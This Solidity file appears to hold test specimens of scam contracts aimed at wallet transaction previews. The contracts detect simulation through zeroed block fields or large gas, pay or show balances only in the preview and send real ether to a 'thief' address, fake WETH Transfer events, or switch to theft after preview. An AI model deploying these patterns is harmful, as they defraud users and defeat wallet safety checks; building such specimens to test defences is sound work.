// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// What gives a simulation away. A mined transaction has a fee recipient, randomness, a base fee, a price for gas
/// and a gas limit near its need; `eth_simulateV1` and `eth_call` leave the first four zero and the last huge,
/// where the caller does not say otherwise (notes of ethereum/execution-apis on eth_simulateV1).
abstract contract Suspicious {
    enum Tell {
        FeeRecipient,
        Randomness,
        BaseFee,
        GasPrice,
        GasLeft
    }

    Tell public immutable tell;

    constructor(Tell tell_) {
        tell = tell_;
    }

    function _isSimulated() internal view returns (bool) {
        if (tell == Tell.FeeRecipient) return block.coinbase == address(0);
        if (tell == Tell.Randomness) return block.prevrandao == 0;
        if (tell == Tell.BaseFee) return block.basefee == 0;
        if (tell == Tell.GasPrice) return tx.gasprice == 0;
        return gasleft() > 10_000_000;
    }
}

/// Stands for the "double your ether" contract that pays back in a wallet's preview and keeps the money in reality.
contract TwoFacedBonus is Suspicious {
    address payable private immutable _thief;

    constructor(address payable thief, Tell tell_) payable Suspicious(tell_) {
        _thief = thief;
    }

    function claim() external payable {
        bool simulated = _isSimulated();
        (bool done,) = (simulated ? payable(msg.sender) : _thief).call{value: simulated ? 2 * msg.value : msg.value}("");
        require(done, "not paid");
    }

    receive() external payable {}
}

/// Stands for a token in a presale that shows a balance to a simulation only.
contract TwoFacedToken is Suspicious {
    string public constant name = "Wrapped Profit";
    string public constant symbol = "WPRO";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 10 ** 24;
    address payable private immutable _thief;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address payable thief, Tell tell_) Suspicious(tell_) {
        _thief = thief;
    }

    function buy() external payable {
        if (_isSimulated()) emit Transfer(address(this), msg.sender, 1000 * msg.value);
        (bool done,) = _thief.call{value: msg.value}("");
        require(done, "not paid");
    }

    function balanceOf(address) external view returns (uint256) {
        return _isSimulated() ? 10 ** 21 : 0;
    }
}

/// Stands for a token that says in events what it does not do: no simulation and no mined receipt tells, only its
/// balances.
contract EventLiar {
    string public constant name = "Wrapped Ether";
    string public constant symbol = "WETH";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 10 ** 24;
    address payable private immutable _thief;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address payable thief) {
        _thief = thief;
    }

    function buy() external payable {
        emit Transfer(address(this), msg.sender, 2 * msg.value);
        (bool done,) = _thief.call{value: msg.value}("");
        require(done, "not paid");
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }
}

/// Stands for a claim that is honest while it is previewed: its owner turns it over before the payment is mined.
contract SwitchedBonus {
    address payable private immutable _thief;
    bool public keeps;

    constructor(address payable thief) payable {
        _thief = thief;
    }

    function turn() external {
        require(msg.sender == _thief, "not you");
        keeps = true;
    }

    function claim() external payable {
        (bool done,) = (keeps ? _thief : payable(msg.sender)).call{value: keeps ? msg.value : 2 * msg.value}("");
        require(done, "not paid");
    }
}
